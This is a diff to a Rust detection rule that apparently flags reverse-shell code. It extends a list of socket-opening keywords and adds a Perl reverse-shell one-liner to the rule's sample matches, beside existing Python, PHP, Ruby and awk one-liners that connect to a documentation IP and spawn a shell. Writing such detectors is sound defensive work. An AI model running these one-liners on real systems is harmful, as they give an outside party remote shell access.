@@ -196,7 +196,8 @@ const OPENS: &[&str] = &[
     "socket.socket", "socket.create_connection", "import socket", "fsockopen", "pfsockopen", "socket_create",
     "TCPSocket", "TCPServer", "net.connect", "net.Socket", "require('net')", "require(\"net\")", "use Socket",
     "IO::Socket", "/inet/tcp/", "/inet/udp/", "socket.tcp", "require('socket')", "Net.Sockets.TCPClient",
-    "java.net.Socket", "new Socket(",
+    "java.net.Socket", "new Socket(", "from socket import", "asyncio.open_connection", "sockaddr_in(", "tls.connect",
+    "net.createServer", "Deno.connect", "Bun.connect", "socket.connect", "OpenSSL::SSL::SSLSocket",
 ];
 #[rustfmt::skip]
 const HANDS: &[&str] = &[
@@ -248,6 +249,7 @@ pub(super) const CODE: Rule = Rule {
     matches: &[
         "python3 -c \"import socket,os,pty;s=socket.create_connection(('198.51.100.7',9));os.dup2(s.fileno(),0);pty.spawn('sh')\"",
         "php -r '$s=fsockopen(\"198.51.100.7\",9);exec(\"sh <&3 >&3 2>&3\");'",
+        "perl -MSocket -e 'socket(S,2,1,6);connect(S,sockaddr_in(9,inet_aton(\"198.51.100.7\")));exec(\"/bin/sh -i\")'",
         "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$p);exec(\"/bin/sh -i\");'",
         "ruby -rsocket -e 'c=TCPSocket.new(\"h\",9);exec(\"/bin/sh\")'",
         "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.7/9\";while(s|&getline)system($0)}'",
